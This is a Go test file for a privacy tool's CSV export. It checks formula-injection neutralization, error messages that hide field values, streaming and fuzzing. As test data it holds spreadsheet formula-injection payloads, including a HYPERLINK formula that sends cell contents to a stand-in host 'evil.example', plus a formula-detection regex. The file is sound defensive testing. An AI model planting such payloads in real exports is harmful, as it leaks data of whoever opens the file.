package export

import (
	"bytes"
	"encoding/csv"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/veil-privacy/veil/pkg/formula"
	"github.com/veil-privacy/veil/pkg/indexing"
)

// The one -update flag of the package's golden tests.
var updateGolden = flag.Bool("update", false, "rewrite the golden files in testdata")

// formulaOracle is the brief's definition of a cell a spreadsheet runs,
// written independently of Dangerous.
var formulaOracle = regexp.MustCompile(`^ *[=+\-@\t\r]`)

// dangerousValues are a formula in every form a spreadsheet runs.
var dangerousValues = []string{
	"=1+1",
	"+1",
	"-1",
	"@SUM(A1)",
	"\t=1",
	"\r=1",
	`  =HYPERLINK("http://evil.example/?d="&A1,"Click me")`,
	"   @x",
}

var goldenMeta = Meta{
	Request: Request{
		ID:           "req-2024-0042",
		Requester:    "staff:3f2a9c1e-7b4d-4e1a-9c55-0d6e2b8f1a77",
		Jurisdiction: "CA",
		Received:     time.Date(2024, 3, 1, 9, 30, 0, 0, time.UTC),
		Answered:     time.Date(2024, 3, 15, 16, 5, 12, 0, time.UTC),
	},
	Disclosure: Disclosure{
		Categories:   []string{"identifiers", "contact details"},
		Sources:      []string{"lead lists uploaded by Acme's marketing team"},
		Purposes:     []string{"marketing campaigns"},
		ThirdParties: []string{"email delivery providers"},
		Retention:    "24 months after a list's upload",
	},
	Coverage: indexing.Coverage{
		Objects: 4,
		Unreadable: []indexing.Unreadable{{
			Bucket:    "acme-leads",
			Key:       "2023/archive.numbers",
			VersionID: "3HL4kqtJlcpXroDTDmJ.rmSpXd3dIbrHY",
			Reason:    "unsupported format",
		}},
		Pending: []indexing.Pending{},
		Partial: []indexing.Partial{},
	},
}

// wideHeader is a 40-column list's header.
func wideHeader() []string {
	h := make([]string, 40)
	for i := range h {
		h[i] = fmt.Sprintf("attr_%02d", i+1)
	}
	return h
}

// goldenRecords are the golden files' records: two text lists with
// different headers, a workbook sheet, a 40-column row, Unicode names and
// every dangerous form.
func goldenRecords() []Record {
	spring := []string{"First Name", "Last Name", "Phone", "E-mail", "Notes"}
	accounts := []string{"cust_id", "acct no"}
	pst := time.FixedZone("PST", -8*3600)
	wide := wideHeader()
	wideFields := make(map[string]string, len(wide))
	for i, name := range wide {
		wideFields[name] = fmt.Sprintf("v%02d", i+1)
	}
	wideFields["attr_07"] = dangerousValues[6]
	wideFields["attr_31"] = dangerousValues[7]
	return []Record{
		{
			Bucket: "acme-leads", Key: "2024/spring-campaign.csv", VersionID: "Qx1.spring",
			Row: 2, Campaign: "Spring 2024", Uploaded: time.Date(2024, 2, 10, 18, 22, 5, 0, time.UTC),
			Header: spring,
			Fields: map[string]string{
				"First Name": "Zoë", "Last Name": "Ångström", "Phone": "+1 415 555 0134",
				"E-mail": "zoe.angstrom@example.com", "Notes": dangerousValues[0],
			},
			MatchedOn: []string{"E-mail", "Phone"},
		},
		{
			Bucket: "acme-leads", Key: "2024/spring-campaign.csv", VersionID: "Qx1.spring",
			Row: 3, Campaign: "Spring 2024", Uploaded: time.Date(2024, 2, 10, 18, 22, 5, 0, time.UTC),
			Header: spring,
			Fields: map[string]string{
				"First Name": "Łukasz", "Last Name": "Żółć", "Phone": dangerousValues[1],
				"E-mail": "lukasz.zolc@example.pl", "Notes": dangerousValues[3],
				// A ragged row's cell beyond the header.
				"Column 6": dangerousValues[2],
			},
			MatchedOn: []string{"E-mail"},
		},
		{
			Bucket: "acme-crm", Key: "exports/accounts.xlsx", VersionID: "b7.accounts", Sheet: "Customers",
			// Uploaded late on the 14th in California: the 15th in UTC.
			Row: 118, Uploaded: time.Date(2024, 1, 14, 20, 0, 0, 0, pst),
			Header: accounts,
			Fields: map[string]string{
				"cust_id": dangerousValues[4], "acct no": dangerousValues[5],
			},
			MatchedOn: []string{"cust_id"},
		},
		{
			Bucket: "acme-leads", Key: "partners/wide.csv", VersionID: "null",
			Row:    41,
			Header: wide,
			Fields: wideFields,
			// A record with neither campaign nor upload time.
			MatchedOn: []string{"attr_02"},
		},
	}
}

// recordsOf streams recs.
func recordsOf(recs []Record) Records {
	return func(fn func(Record) error) error {
		for _, r := range recs {
			if err := fn(r); err != nil {
				return err
			}
		}
		return nil
	}
}

// checkGolden compares got with testdata/name, rewriting it under -update.
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *updateGolden {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatalf("update golden: %v", err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden (run with -update to create it): %v", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("output differs from %s (run with -update after checking the change)\ngot:\n%s\nwant:\n%s", path, got, want)
	}
}

// wantCell is a value as the CSV shows it, computed from the brief rather
// than by Neutralize: a quote before a formula, and line breaks as
// encoding/csv reads them back.
func wantCell(s string) string {
	if formulaOracle.MatchString(s) {
		s = "'" + s
	}
	s = strings.ReplaceAll(s, "\r\n", "\n")
	return strings.ReplaceAll(s, "\r", "\n")
}

// readCSV checks the byte-order mark and CRLF line ends and parses the
// rest of the file.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	body, ok := bytes.CutPrefix(b, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Fatalf("CSV starts %q, want the UTF-8 byte-order mark", b[:min(len(b), 3)])
	}
	if !bytes.HasSuffix(body, []byte("\r\n")) {
		t.Fatalf("CSV ends %q, want CRLF", body[max(0, len(body)-2):])
	}
	rd := csv.NewReader(bytes.NewReader(body))
	rd.FieldsPerRecord = -1
	rows, err := rd.ReadAll()
	if err != nil {
		t.Fatalf("parse CSV back: %v", err)
	}
	return rows
}

// checkNoFormula fails if any cell of rows would run in a spreadsheet.
func checkNoFormula(t *testing.T, rows [][]string) {
	t.Helper()
	for i, row := range rows {
		for j, c := range row {
			if formulaOracle.MatchString(c) || formula.Dangerous(c) {
				t.Errorf("row %d cell %d = %q, a formula", i, j, c)
			}
		}
	}
}

func TestWriteCSVGolden(t *testing.T) {
	var buf bytes.Buffer
	n, err := WriteCSV(&buf, goldenMeta, recordsOf(goldenRecords()))
	if err != nil {
		t.Fatalf("WriteCSV error = %v", err)
	}
	if n != len(goldenRecords()) {
		t.Errorf("WriteCSV wrote %d records, want %d", n, len(goldenRecords()))
	}
	checkGolden(t, "csv_export.csv", buf.Bytes())
}

func TestWriteCSVParsesBack(t *testing.T) {
	recs := goldenRecords()
	var buf bytes.Buffer
	if _, err := WriteCSV(&buf, goldenMeta, recordsOf(recs)); err != nil {
		t.Fatalf("WriteCSV error = %v", err)
	}
	if !bytes.Contains(buf.Bytes(), []byte("\r\n\r\n# coverage\r\n")) {
		t.Errorf("CSV has no empty line before %q", "# coverage")
	}
	rows := readCSV(t, buf.Bytes())
	// The union of the headers, first seen first, a ragged row's extra
	// cell after its own header's.
	cols := []string{"First Name", "Last Name", "Phone", "E-mail", "Notes", "Column 6", "cust_id", "acct no"}
	cols = append(cols, wideHeader()...)
	wantHeader := append([]string{"bucket", "key", "sheet", "row", "campaign", "uploaded"}, cols...)
	if !slices.Equal(rows[0], wantHeader) {
		t.Fatalf("header = %q, want %q", rows[0], wantHeader)
	}
	uploaded := []string{"2024-02-10", "2024-02-10", "2024-01-15", ""}
	for i, r := range recs {
		row := rows[1+i]
		if len(row) != len(wantHeader) {
			t.Fatalf("record %d has %d cells, want %d", i, len(row), len(wantHeader))
		}
		want := []string{r.Bucket, r.Key, r.Sheet, strconv.FormatInt(r.Row, 10), r.Campaign, uploaded[i]}
		for _, c := range cols {
			want = append(want, wantCell(r.Fields[c]))
		}
		if !slices.Equal(row, want) {
			t.Errorf("record %d = %q, want %q", i, row, want)
		}
	}
	// Every dangerous value is in the file, each behind a quote.
	var cells []string
	for _, row := range rows {
		cells = append(cells, row...)
	}
	for _, v := range dangerousValues {
		if !slices.Contains(cells, wantCell(v)) {
			t.Errorf("no cell %q for dangerous value %q", wantCell(v), v)
		}
	}
	checkNoFormula(t, rows)
	trailer := [][]string{
		{"# coverage"},
		{"incomplete", "4 lists indexed"},
		{"unreadable", "acme-leads", "2023/archive.numbers", "unsupported format"},
	}
	if got := rows[1+len(recs):]; !equalRows(got, trailer) {
		t.Errorf("trailer = %q, want %q", got, trailer)
	}
}

func equalRows(a, b [][]string) bool {
	return slices.EqualFunc(a, b, slices.Equal)
}

func TestCSVCoverageTrailer(t *testing.T) {
	tests := []struct {
		name string
		cov  indexing.Coverage
		want [][]string
	}{
		{
			name: "complete",
			cov:  indexing.Coverage{Objects: 12},
			want: [][]string{{"# coverage"}, {"complete", "12 lists indexed"}},
		},
		{
			name: "every kind of incomplete",
			cov: indexing.Coverage{
				Objects: 3,
				Unreadable: []indexing.Unreadable{
					{Bucket: "b", Key: "old.numbers", Reason: "unsupported format"},
					{Bucket: "b", Key: "=evil.csv", Reason: "-not a list"},
				},
				Pending: []indexing.Pending{{Bucket: "b", Key: "new.csv"}},
				Partial: []indexing.Partial{{Bucket: "b", Key: "torn.csv", UnreadableRows: 7}},
			},
			want: [][]string{
				{"# coverage"},
				{"incomplete", "3 lists indexed"},
				{"unreadable", "b", "old.numbers", "unsupported format"},
				{"unreadable", "b", "'=evil.csv", "'-not a list"},
				{"pending", "b", "new.csv", "indexing in progress"},
				{"partial", "b", "torn.csv", "7 rows unreadable"},
			},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			n, err := WriteCSV(&buf, Meta{Coverage: tc.cov}, recordsOf(nil))
			if err != nil {
				t.Fatalf("WriteCSV error = %v", err)
			}
			if n != 0 {
				t.Errorf("WriteCSV wrote %d records, want 0", n)
			}
			rows := readCSV(t, buf.Bytes())
			if got := rows[1:]; !equalRows(got, tc.want) {
				t.Errorf("trailer = %q, want %q", got, tc.want)
			}
		})
	}
}

func TestColumns(t *testing.T) {
	tests := []struct {
		name string
		recs []Record
		want []string
	}{
		{name: "no records", want: nil},
		{
			name: "headers in order first seen",
			recs: []Record{
				{Header: []string{"b", "a"}, Fields: map[string]string{"a": "1", "b": "2"}},
				{Header: []string{"c", "a"}, Fields: map[string]string{"c": "3"}},
			},
			want: []string{"b", "a", "c"},
		},
		{
			name: "fields beyond the header after it, sorted",
			recs: []Record{
				{Header: []string{"z"}, Fields: map[string]string{"z": "", "Column 3": "x", "Column 2": "y"}},
				{Header: []string{"Column 2", "y"}, Fields: map[string]string{"y": "1"}},
			},
			want: []string{"z", "Column 2", "Column 3", "y"},
		},
		{
			name: "a header naming a column twice",
			recs: []Record{{Header: []string{"x", "x", ""}, Fields: map[string]string{"x": "1", "": "2"}}},
			want: []string{"x", ""},
		},
		{
			name: "fields with no header",
			recs: []Record{{Fields: map[string]string{"b": "1", "a": "2"}}},
			want: []string{"a", "b"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, err := Columns(recordsOf(tc.recs))
			if err != nil {
				t.Fatalf("Columns error = %v", err)
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("Columns = %q, want %q", got, tc.want)
			}
		})
	}
}

func TestColumnsError(t *testing.T) {
	boom := errors.New("index unavailable")
	_, err := Columns(func(fn func(Record) error) error { return boom })
	if !errors.Is(err, boom) {
		t.Errorf("Columns error = %v, want %v", err, boom)
	}
}

// secret is a field value that no error may show.
const secret = "Zoë-SECRET-415-555-0134"

// failWriter accepts n bytes, then fails.
type failWriter struct {
	n   int
	err error
}

func (w *failWriter) Write(p []byte) (int, error) {
	if len(p) <= w.n {
		w.n -= len(p)
		return len(p), nil
	}
	k := w.n
	w.n = 0
	return k, w.err
}

// manyRecords streams n records of one list, each holding secret.
func manyRecords(n int) Records {
	header := []string{"Name", "Phone", "E-mail", "Notes"}
	return func(fn func(Record) error) error {
		for i := range n {
			r := Record{
				Bucket: "acme-leads", Key: "big.csv", Row: int64(i + 2), Header: header,
				Fields: map[string]string{
					"Name": secret, "Phone": "+1 415 555 0134", "E-mail": "someone@example.com",
					"Notes": strings.Repeat("lorem ipsum ", 8),
				},
			}
			if err := fn(r); err != nil {
				return err
			}
		}
		return nil
	}
}

// writer is WriteCSV or WriteJSON.
type writer func(io.Writer, Meta, Records) (int, error)

// testWriterErrors checks that write's errors from Records and from w are
// returned, wrapped and free of field values. failedN is how many records
// write reports when Records fails after three.
func testWriterErrors(t *testing.T, write writer, failedN int) {
	boom := errors.New("index unavailable")
	disk := errors.New("disk full")
	tests := []struct {
		name    string
		w       io.Writer
		recs    Records
		want    error
		wantN   int
		wantRow bool
	}{
		{
			name: "records fail",
			w:    io.Discard,
			recs: func(fn func(Record) error) error {
				if err := manyRecords(3)(fn); err != nil {
					return err
				}
				return boom
			},
			want:  boom,
			wantN: failedN,
		},
		{
			name:  "writer fails at the flush",
			w:     &failWriter{n: 10, err: disk},
			recs:  manyRecords(3),
			want:  disk,
			wantN: 3,
		},
		{
			name:    "writer fails amid the records",
			w:       &failWriter{n: 100 << 10, err: disk},
			recs:    manyRecords(10000),
			want:    disk,
			wantN:   -1,
			wantRow: true,
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			n, err := write(tc.w, goldenMeta, tc.recs)
			if !errors.Is(err, tc.want) {
				t.Fatalf("error = %v, want %v", err, tc.want)
			}
			if strings.Contains(err.Error(), secret) {
				t.Errorf("error %q shows a field value", err)
			}
			if tc.wantN >= 0 && n != tc.wantN {
				t.Errorf("wrote %d records, want %d", n, tc.wantN)
			}
			if tc.wantN < 0 && (n <= 0 || n >= 10000) {
				t.Errorf("wrote %d records, want some but not all", n)
			}
			if tc.wantRow && !strings.Contains(err.Error(), "acme-leads/big.csv row ") {
				t.Errorf("error %q does not name the record", err)
			}
		})
	}
}

func TestWriteCSVErrors(t *testing.T) {
	// Records fail in the first pass, before any record is written.
	testWriterErrors(t, WriteCSV, 0)

	t.Run("records fail on the second pass", func(t *testing.T) {
		boom := errors.New("index unavailable")
		calls := 0
		recs := func(fn func(Record) error) error {
			calls++
			if err := manyRecords(2)(fn); err != nil {
				return err
			}
			if calls == 2 {
				return boom
			}
			return nil
		}
		n, err := WriteCSV(io.Discard, goldenMeta, recs)
		if !errors.Is(err, boom) || n != 2 {
			t.Errorf("WriteCSV = %d, %v, want 2, %v", n, err, boom)
		}
	})
	t.Run("records gain a field between passes", func(t *testing.T) {
		calls := 0
		recs := func(fn func(Record) error) error {
			calls++
			r := Record{Bucket: "b", Key: "k.csv", Row: 2, Header: []string{"Name"}, Fields: map[string]string{"Name": secret}}
			if calls == 2 {
				r.Fields["Phone"] = secret
			}
			return fn(r)
		}
		n, err := WriteCSV(io.Discard, goldenMeta, recs)
		if !errors.Is(err, ErrRecordsChanged) || n != 0 {
			t.Fatalf("WriteCSV = %d, %v, want 0, %v", n, err, ErrRecordsChanged)
		}
		if strings.Contains(err.Error(), secret) || !strings.Contains(err.Error(), "b/k.csv row 2") {
			t.Errorf("error %q: want the record named and no value", err)
		}
	})
}

// countingWriter counts the bytes written to it.
type countingWriter struct{ n int64 }

func (w *countingWriter) Write(p []byte) (int, error) {
	w.n += int64(len(p))
	return len(p), nil
}

// testWriterStreams checks that write sends 100,000 records to w as they
// come rather than holding them: output reaches w while records are still
// coming, and the heap does not grow with them.
func testWriterStreams(t *testing.T, write writer, passes int) {
	const total = 100_000
	var ms runtime.MemStats
	heap := func() uint64 {
		runtime.GC()
		runtime.ReadMemStats(&ms)
		return ms.HeapAlloc
	}
	w := &countingWriter{}
	var base uint64
	call := 0
	recs := func(fn func(Record) error) error {
		call++
		err := manyRecords(total)(func(r Record) error {
			if call == passes && (r.Row == 1000 || r.Row == total) {
				if r.Row == 1000 {
					base = heap()
				}
				if w.n == 0 {
					return fmt.Errorf("nothing written by record %d", r.Row)
				}
			}
			return fn(r)
		})
		if call == passes {
			// 100,000 records held would be tens of megabytes.
			if grown := int64(heap()) - int64(base); grown > 8<<20 {
				return fmt.Errorf("heap grew %d bytes over the records", grown)
			}
		}
		return err
	}
	n, err := write(w, goldenMeta, recs)
	if err != nil {
		t.Fatalf("error = %v", err)
	}
	if n != total {
		t.Errorf("wrote %d records, want %d", n, total)
	}
	if least := int64(total) * 100; w.n < least {
		t.Errorf("wrote %d bytes, want at least %d", w.n, least)
	}
}

func TestWriteCSVStreams(t *testing.T) {
	testWriterStreams(t, WriteCSV, 2)
}

func FuzzWriteCSV(f *testing.F) {
	f.Add("First Name", "Zoë", "Phone", "+1 415 555 0134", "Column 3", "=1+1")
	f.Add("E-mail", "@SUM(A1)", "Notes", "\t=1", "", "\r=1")
	f.Add("=cmd", "  =HYPERLINK(\"x\")", "=cmd", "   @x", "a,b", "line\r\nbreak\rcr")
	f.Add("\"q\"", "-1", " lead", "\xff\xfe", "Łukasz", "Żółć")
	f.Fuzz(func(t *testing.T, name1, value1, name2, value2, extra, extraValue string) {
		recs, cols := fuzzRecords(name1, value1, name2, value2, extra, extraValue)
		var buf bytes.Buffer
		n, err := WriteCSV(&buf, Meta{}, recordsOf(recs))
		if err != nil {
			t.Fatalf("WriteCSV error = %v", err)
		}
		if n != len(recs) {
			t.Fatalf("WriteCSV wrote %d records, want %d", n, len(recs))
		}
		rows := readCSV(t, buf.Bytes())
		checkNoFormula(t, rows)
		want := [][]string{{"bucket", "key", "sheet", "row", "campaign", "uploaded"}}
		for _, c := range cols {
			want[0] = append(want[0], wantCell(c))
		}
		for _, r := range recs {
			row := []string{r.Bucket, r.Key, "", strconv.FormatInt(r.Row, 10), "", ""}
			for _, c := range cols {
				row = append(row, wantCell(r.Fields[c]))
			}
			want = append(want, row)
		}
		want = append(want, []string{"# coverage"}, []string{"complete", "0 lists indexed"})
		if !equalRows(rows, want) {
			t.Fatalf("CSV parses back to\n%q\nwant\n%q", rows, want)
		}
	})
}

// fuzzRecords builds two records of arbitrary field names and values, and
// the columns they show under, worked out without Columns: the first
// record's header, then its extra field, then the second's header.
func fuzzRecords(name1, value1, name2, value2, extra, extraValue string) ([]Record, []string) {
	first := map[string]string{name1: value1}
	first[name2] = value2
	cols := []string{name1}
	if name2 != name1 {
		cols = append(cols, name2)
	}
	if !slices.Contains(cols, extra) {
		first[extra] = extraValue
		cols = append(cols, extra)
	}
	second := map[string]string{name2: value1}
	recs := []Record{
		{Bucket: "acme-leads", Key: "fuzz.csv", VersionID: "v", Row: 2, Header: []string{name1, name2}, Fields: first, MatchedOn: []string{name1}},
		{Bucket: "acme-leads", Key: "other.csv", VersionID: "w", Row: 9, Header: []string{name2}, Fields: second, MatchedOn: []string{}},
	}
	return recs, cols
}

// benchRecords streams n records of ten columns.
func benchRecords(n int) Records {
	header := make([]string, 10)
	fields := make(map[string]string, len(header))
	for i := range header {
		header[i] = fmt.Sprintf("Column %d", i+1)
		fields[header[i]] = fmt.Sprintf("value %d of a lead", i+1)
	}
	fields["Column 3"] = "+1 415 555 0134"
	uploaded := time.Date(2024, 2, 10, 18, 22, 5, 0, time.UTC)
	return func(fn func(Record) error) error {
		for i := range n {
			r := Record{
				Bucket: "acme-leads", Key: "2024/spring-campaign.csv", VersionID: "Qx1",
				Row: int64(i + 2), Campaign: "Spring 2024", Uploaded: uploaded,
				Header: header, Fields: fields, MatchedOn: []string{"Column 3"},
			}
			if err := fn(r); err != nil {
				return err
			}
		}
		return nil
	}
}

// benchmarkWriter reports write's records a second over 10,000 records
// of ten columns written to io.Discard.
func benchmarkWriter(b *testing.B, write writer) {
	const n = 10_000
	recs := benchRecords(n)
	b.ReportAllocs()
	for b.Loop() {
		if _, err := write(io.Discard, goldenMeta, recs); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(n)*float64(b.N)/b.Elapsed().Seconds(), "records/s")
}

func BenchmarkWriteCSV(b *testing.B) {
	benchmarkWriter(b, WriteCSV)
}
